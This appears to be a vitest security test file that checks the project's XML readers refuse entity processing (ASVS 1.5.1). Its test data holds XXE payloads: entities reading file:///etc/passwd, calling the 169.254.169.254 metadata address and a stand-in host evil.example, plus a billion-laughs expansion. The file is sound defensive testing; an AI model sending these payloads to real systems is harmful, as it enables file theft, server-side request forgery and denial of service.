import { afterEach, describe, expect, it, vi } from 'vitest'
import { parseXml } from '@/server/collectors/files/market/xml'
import { S3Files } from '@/server/stores/files/s3Files'
import { isTest, sources } from '@/tests/architecture/sources'

afterEach(() => vi.unstubAllGlobals())

const code = sources(/^(server|lib|components|hooks|pages|scripts)\/.*\.(ts|tsx|mjs)$/).filter(
  ({ path }) => !isTest(path),
)

/** Documents that would read a file, ask another host, or grow to gigabytes if their entities were followed. */
const LAUGHS = [...'bcdefghij'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')
const HARMFUL: readonly (readonly [what: string, dtd: string, word: string])[] = [
  ['a file of the host', '<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'],
  ['an address', '<!ENTITY x SYSTEM "http://169.254.169.254/latest">', '&x;'],
  ['a public name', '<!ENTITY x PUBLIC "-//A//B" "http://evil.example/x.dtd">', '&x;'],
  ['a parameter', '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', 'word'],
  ['words that stand for ten others each', `<!ENTITY a "ha">${LAUGHS}`, '&j;'],
  ['a word of its own', '<!ENTITY x "replaced">', '&x;'],
]

/** What a reader made of a document, as text; a refusal is its own. */
const told = async (read: () => unknown): Promise<string> => {
  try {
    return JSON.stringify(await read())
  } catch (error) {
    return `refused: ${error instanceof Error ? error.message : ''}`
  }
}

describe('ASVS 1.5.1: no reader of XML follows what a document tells it to', () => {
  it('each is told so', () => {
    const readers = code.filter(({ text }) => /new XMLParser\(/.test(text))
    expect(readers.map(({ path }) => path).sort()).toEqual([
      'server/collectors/files/market/xml.ts',
      'server/stores/files/s3Files.ts',
    ])
    for (const { path, text } of readers) expect(text, path).toMatch(/new XMLParser\(\{[^}]*processEntities: false/)
    expect(code.filter(({ text }) => /DOMParser|libxml|sax\b.*from '/.test(text)).map(({ path }) => path)).toEqual([])
  })

  it.each(HARMFUL)('%s', async (_what, dtd, word) => {
    const asked: string[] = []
    const list = `<!DOCTYPE l [${dtd}]><ListBucketResult><Contents><Key>k${word}</Key></Contents></ListBucketResult>`
    vi.stubGlobal('fetch', async (request: Request) => {
      asked.push(request.url)
      return new Response(list)
    })
    const place = { url: 'https://s3.example/bucket', region: 'a', accessKeyId: 'a', secretAccessKey: 'b' }
    const answers = [
      await told(() => parseXml(`<!DOCTYPE a [${dtd}]><a>${word}</a>`)),
      await told(() => new S3Files(place, '').list('folder')),
    ]
    for (const answer of answers) {
      expect(answer).not.toMatch(/root:|haha|replaced/)
      expect(answer.length).toBeLessThan(1000)
      if (!answer.startsWith('refused')) expect(answer).toContain(word)
    }
    expect(asked.every((url) => url.startsWith('https://s3.example/bucket?'))).toBe(true)
  })
})
